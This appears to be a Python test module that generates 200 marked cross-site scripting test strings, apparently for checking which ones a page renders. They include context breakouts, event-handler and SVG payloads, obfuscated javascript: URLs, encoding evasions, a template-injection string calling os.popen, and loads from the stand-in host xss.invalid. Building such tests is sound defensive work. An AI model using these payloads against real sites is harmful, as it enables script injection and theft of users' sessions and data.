"""Numbers → texts that run a script, load something or lead away wherever a page takes them for more than text.

Each names itself by a mark, `x007x`, so that a test can tell which ones a page showed. What would run calls `__xss`
with it; what would load or lead away goes to a host that nobody has.
"""

import re

HOST = "xss.invalid"
MARK = re.compile(r"x\d{3}x")

WAYS_OUT = ("", '">', "'>", "</script>", "--></style>", "</title></textarea></noscript>", '\\"; ', "]]>")
"""Of the place in a page where a text stands: between tags, in attributes, scripts, comments, what holds plain text."""

MARKUP = (
    "<script>{run}</script>",
    "<ScRiPt src=//{host}/{mark}></sCrIpT>",
    "<img src=x onerror={run}>",
    "<img/src='{url}'>",
    "<svg/onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text y=9>{mark}</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<details open ontoggle={run}>{mark}",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<body onload={run} onpageshow={run}>",
    "<style>@import '{url}'; * {{ background: url({url}) }}</style>",
    "<link rel=stylesheet href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}/>",
    "<object data={url}></object><embed src={url}>",
    "<form action={url}><button autofocus formaction=javascript:{run}>{mark}",
    "<div hx-get={url} hx-trigger=load hx-on:htmx:load={run}>{mark}</div>",
)

ATTRIBUTES = (
    '" autofocus onfocus="{run}" x="',
    "' autofocus onfocus='{run}' x='",
    '" onmouseover="{run}" style="position:fixed;inset:0" x="',
    '" onerror="{run}" src="x',
    "x onload={run} ",
    '" hx-get="{url}" hx-trigger="load" x="',
    '" srcset="{url} 1x',
    '" href="javascript:{run}',
)

ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    " \x01javascript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "javascript://example.org/%0A{run}",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "vbscript:{run}",
    "blob:{run}",
    "file:///etc/passwd#{mark}",
    "//{host}/{mark}",
    "\\\\{host}\\{mark}",
    "http://example.org/'\"><img src=x onerror={run}>",
)

ELSEWHERE = (
    "{{{{ cycler.__init__.__globals__.os.popen('{mark}').read() }}}}",
    "{{% print('{mark}') %}}",
    "${{{run}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "%({mark})s %s {{0}}",
    "＜script＞{run}＜/script＞",
    "\u202e<script>{run}</script>\u202c",
    "\ufeff<script\u2028>{run}</script>",
    "<scr\0ipt>{run}</scr\0ipt>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "<!--[if IE]><script>{run}</script><![endif]-->",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
)


def texts():
    """Two hundred of them; whatever leads somewhere as an address is among the last."""
    markup = [out + each for out in WAYS_OUT for each in MARKUP]
    forms = [*markup, *ATTRIBUTES, *ELSEWHERE, *ADDRESSES]
    return [_filled(form, f"x{number:03d}x") for number, form in enumerate(forms)]


def addresses():
    """Those that stand for an address."""
    return texts()[-len(ADDRESSES) :]


def _filled(form, mark):
    known = {"run": f"__xss('{mark}')", "url": f"//{HOST}/{mark}", "host": HOST, "mark": mark}
    return form.format(**known)
